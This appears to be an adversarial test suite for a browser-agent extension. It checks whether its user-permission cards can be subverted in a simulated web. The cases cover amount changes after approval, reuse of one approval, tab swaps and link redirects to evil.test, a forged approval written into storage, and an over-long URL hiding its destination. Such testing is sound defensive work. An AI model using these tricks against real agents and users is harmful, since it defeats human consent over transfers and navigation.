import { expect } from 'vitest';
import { refIn, say, use } from '../e2e/harness/scripted-model.ts';
import { attack } from './attack.ts';
import { askedForRent, rentPage, TRANSFER } from './bank-card.ts';
import { newCanary } from './canary.ts';
import { answerAll } from './humans.ts';
import { page as pageOf } from './web/pages.ts';

attack('G8', 'a bank whose script raises the amount once the user was asked', async (world) => {
  const { page, panel } = await askedForRent(world);
  await page.evaluate(() => document.querySelector('input[name=amount]')?.setAttribute('value', '10000'));

  await panel.answer('once');
  await answerAll(panel, 'deny-all', [], 1);

  const amounts = world.web.ledgers.transfer.map(({ fields }) => fields.amount);
  return { 'another amount was sent than was agreed to': amounts.some((amount) => amount !== '10') };
});

attack('G9 G10', 'one permission for two transfers, and for another amount', async (world) => {
  const { web } = world;
  const again = ['navigate', { url: 'https://bank.test/rent' }] as const;
  const look = ['get_accessibility_tree', {}] as const;
  const other = ['click', { visible_text: 'Transfer' }] as const;
  const { panel } = await askedForRent(world, [TRANSFER, again, look, TRANSFER, other]);

  await panel.answer('once');
  await answerAll(panel, 'deny-all', [], 1);

  expect(web.ledgers.transfer).not.toHaveLength(0);
  return { 'it was used again': web.ledgers.transfer.length > 1 };
});

attack('G11', 'a tab that shows the form of another site by the time that the user agrees', async (world) => {
  const { page, panel } = await askedForRent(world);
  world.web.serve('https://evil.test/rent', rentPage(newCanary('G11')));
  await page.goto('https://evil.test/rent', { waitUntil: 'domcontentloaded' });

  await panel.answer('once');
  await answerAll(panel, 'deny-all', [], 1);

  const sent = world.web.to('evil.test').filter(({ method }) => method === 'POST');
  return { 'the form of the other site was sent': sent.length > 0 };
});

attack('C13', 'a tab that was loaded anew by the time that the user agrees', async (world) => {
  const { page, panel } = await askedForRent(world);
  await page.reload({ waitUntil: 'domcontentloaded' });

  await panel.answer('once');
  await answerAll(panel, 'deny-all', [], 1);

  return { 'a button of the new document was pressed': world.web.ledgers.transfer.length > 0 };
});

attack('G12', 'a permission from which the background woke after two minutes', async (world) => {
  const { panel } = await askedForRent(world);
  const { requestId, digest } = await panel.event('permission-request');
  const seq = Math.max(...(await panel.log()).map((stored) => stored.seq)) + 1;
  const event = { type: 'permission-response', requestId, digest, answer: 'once' };
  // As if the background had died right behind the click.
  const row = { sessionId: panel.sessionId, seq, atMs: Date.now() - 130_000, event };
  await panel.page.evaluate(writeEvent, row);
  await world.launched.killBackground();

  await answerAll(panel, 'deny-all', [], 1);

  const isAskedAnew = (await panel.events('permission-request')).length === 2;
  expect(isAskedAnew || world.web.ledgers.transfer.length > 0).toBe(true);
  return { 'it was still taken': world.web.ledgers.transfer.length > 0 };
});

attack('G13', 'a link that leads elsewhere once the user was asked', async (world) => {
  const canary = newCanary('G13');
  world.web.reset(canary);
  world.web.serve('https://news.test/', pageOf('News', '<a href="https://bank.test/">Your account</a>'));
  world.model.script(
    use(['get_accessibility_tree', {}]),
    use(['click', (request) => ({ ref_id: refIn(request, /link "Your account"/) })]),
    say('There.'),
  );
  const { page, panel } = await world.beside('https://news.test/');
  await panel.send('Go to my account.');
  await panel.event('permission-request');
  await page.evaluate(() => document.querySelector('a')?.setAttribute('href', 'https://evil.test/taken'));

  await panel.answer('once');
  await answerAll(panel, 'deny-all', [], 1);

  return { 'the tab was led elsewhere': world.web.to('evil.test').length > 0 };
});

attack('G14', 'an address whose end is out of sight on the card', async (world) => {
  world.web.reset(newCanary('G14'));
  const url = `https://evil.test/?d=${'a'.repeat(3_000)}taken`;
  world.model.script(use(['navigate', { url }]), say('There.'));
  const { panel } = await world.beside('https://news.test/');
  await panel.send('What does it say?');
  await panel.event('permission-request');
  const allow = '.permission-card .actions button.primary';
  await panel.sees(allow);
  // Longer than a card takes until it can be answered.
  await panel.page.waitForFunction(wasShownFor, {}, allow, 1_200);
  await panel.page.click(allow);
  // Where the click was enough the button is gone.
  await panel.page.evaluate((selector) => document.querySelector<HTMLElement>(selector)?.focus(), allow);
  await panel.page.keyboard.press(' ');

  expect(await panel.events('permission-request')).toHaveLength(1);
  const unseen = await panel.events('permission-response');
  await answerAll(panel, 'deny-all', [], 1);

  return {
    'it was agreed to unseen': unseen.length > 0,
    'it was opened': world.web.to('evil.test').length > 0,
  };
});

// The two below run in the panel's page.
function wasShownFor(selector: string, ms: number): boolean {
  const shown = globalThis as { shownSinceMs?: number };
  if (document.querySelector(selector)) shown.shownSinceMs ??= performance.now();
  return performance.now() - (shown.shownSinceMs ?? Infinity) > ms;
}

function writeEvent(row: { readonly sessionId: string; readonly seq: number }): Promise<void> {
  return new Promise((done, fail) => {
    const opening = indexedDB.open('tabhand-log');
    opening.onerror = () => fail(opening.error);
    opening.onsuccess = () => {
      const database = opening.result;
      const transaction = database.transaction(['events', 'sessions'], 'readwrite');
      transaction.objectStore('events').add(row);
      const sessions = transaction.objectStore('sessions');
      const known = sessions.get(row.sessionId);
      known.onsuccess = () => sessions.put({ ...known.result, lastSeq: row.seq });
      transaction.oncomplete = () => {
        database.close();
        done();
      };
      transaction.onerror = () => fail(transaction.error);
    };
  });
}
